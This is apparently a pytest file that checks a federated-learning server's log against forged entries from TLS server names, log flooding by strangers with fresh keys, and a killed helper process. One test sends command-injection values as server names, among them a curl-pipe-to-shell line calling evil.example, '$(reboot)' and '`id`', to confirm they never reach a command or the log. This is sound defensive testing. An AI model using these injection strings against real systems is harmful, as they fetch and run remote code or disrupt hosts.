"""The SuperLink's log under attack: nobody forges a line, silences it, or makes it grow."""

import contextlib
import socket
import ssl
import time

import psutil
import pytest
from fleet_member import Hall, Member, refused

from app.fleet.identity import keys

pytestmark = pytest.mark.federation


def shake_hands(hall: Hall, name: str) -> None:
    """A TLS handshake that asks for a server called ``name``."""
    context = ssl.create_default_context(cafile=str(hall.pki / "ca.crt"))
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    with (
        contextlib.suppress(OSError, ValueError),
        socket.create_connection(("127.0.0.1", hall.fleet_port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname=name),
    ):
        time.sleep(0.05)


def speak_plainly(hall: Hall) -> None:
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", hall.fleet_port), timeout=5) as plain,
    ):
        plain.sendall(bytes(100))
        plain.recv(100)


def translators(hall: Hall) -> list[psutil.Process]:
    """What the SuperLink has started beside Flower's own processes."""
    children = psutil.Process(hall.processes["superlink"].pid).children()
    return [child for child in children if "superexec" not in " ".join(child.cmdline())]


def test_the_name_that_a_stranger_dials_is_no_part_of_a_command(hall: Hall) -> None:
    for name in ("evil.example", "x;curl evil.example|sh", "$(reboot)", "`id`"):
        shake_hands(hall, name)
    hall.wait_for("superlink", "dials this server as something that is no host name")
    written = hall.log("superlink")
    assert "--name evil" not in written and "curl" not in written and "reboot" not in written


def test_a_stranger_with_a_fresh_key_each_time_is_told_a_few_times(hall: Hall) -> None:
    before = len(hall.log("superlink"))
    for number in range(60):
        stranger = Member.strange(hall, keys.make_node_key(hall.folder / f"fresh-{number}.key").path)
        assert refused(stranger.activate)
        stranger.channel.close()
    assert len(hall.log("superlink")) - before < 6000


def test_a_killed_translator_silences_nothing(hall: Hall) -> None:
    [old] = translators(hall)
    old.kill()
    old.wait(60)
    hall.join("newcomer").channel.close()
    hall.wait_for("superlink", "newcomer is online", timeout=20)
    deadline = time.monotonic() + 20
    while "did not speak TLS" not in hall.log("superlink"):
        assert time.monotonic() < deadline, hall.log("superlink")[-2000:]
        speak_plainly(hall)
        time.sleep(0.2)
    [new] = translators(hall)
    assert new.pid != old.pid
